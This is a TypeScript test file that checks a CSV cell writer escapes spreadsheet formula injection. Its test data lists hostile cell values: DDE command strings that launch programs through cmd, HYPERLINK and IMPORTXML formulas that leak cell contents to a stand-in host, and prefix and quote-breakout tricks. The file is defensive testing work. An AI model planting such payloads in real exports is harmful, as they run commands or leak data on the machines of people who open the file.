/** Cells that a spreadsheet could take for a program, and those that only look so (resilience D1). */
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { decimal, number, percent, text } from '../../api/endpoint/fields.ts'
import { csvCell, csvLine } from './csv.ts'

const prose = text('Notes')

/** What a spreadsheet knows a formula by, and what it skips before that. */
const triggers = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\u0000']
const forms: Readonly<Record<string, (trigger: string) => string>> = {
  alone: (trigger) => `${trigger}1+1`,
  'with a line break': (trigger) => `${trigger}1\n${trigger}2`,
  'behind a blank': (trigger) => ` ${trigger}=1`,
  'breaking out of its quotes': (trigger) => `${trigger}x","${trigger}1`,
}
/** Calls of a program, a leaking link, and tricks with what stands before the sign. */
const calls = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|'/C start x'!'A1'",
  "+cmd|'/c rundll32 x'!_A.1",
  '-2+3+cmd|x',
  '=HYPERLINK("https://evil.test?x="&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.test",A1),"//a")',
  '\ufeff=1',
  '\u200b=1',
  '\u00a0=1',
  '\u3000@x',
  '\u001f=1',
]
const hostile = [
  ...triggers.flatMap((trigger) =>
    Object.entries(forms).map(([form, write]) => [`${JSON.stringify(trigger)} ${form}`, write(trigger)] as const),
  ),
  ...calls.map((call) => [JSON.stringify(call), call] as const),
]

describe('D1 a CSV cell', () => {
  it('is tried with sixty hostile texts', () => expect(new Set(hostile.map(([, cell]) => cell)).size).toBeGreaterThanOrEqual(60))

  it.each(hostile)('marks as text: %s', (_, cell) => {
    expect(csvCell(prose, cell)).toBe(`"'${cell.replaceAll('"', '""')}"`)
    expect(csvCell(undefined, cell)).toBe(`"'${cell.replaceAll('"', '""')}"`)
  })

  it('is one cell of one row to another reader, whatever it holds', () => {
    const lines = hostile.map(([, cell]) => csvLine([csvCell(prose, 'before'), csvCell(prose, cell), csvCell(number('x'), -5)]))
    const read = parse(lines.join(''), { recordDelimiter: '\r\n' }) as string[][]
    expect(read).toEqual(hostile.map(([, cell]) => ['before', `'${cell}`, '-5']))
  })

  it.each(['-5', '-2.5%', '+1', '-0.03', '1e3', '2026-11-20', '-12.3400'])(
    'leaves %s as it is in a column of measures',
    (plain) => {
      expect(csvCell(decimal('Target'), plain)).toBe(`"${plain}"`)
      expect(csvCell(percent('Change'), plain)).toBe(`"${plain}"`)
    },
  )

  it('marks what is no number in a column of measures', () => expect(csvCell(decimal('Target'), '-1+cmd')).toBe(`"'-1+cmd"`))
  it('writes numbers as JSON has them', () => expect(csvCell(number('Close'), -0.1)).toBe('"-0.1"'))
  it('doubles quotes, also of a text that tries to break out', () => expect(csvCell(prose, '","=1"')).toBe('""",""=1"""'))
  it('is empty for what is absent', () => expect(csvCell(prose, null)).toBe('""'))
})
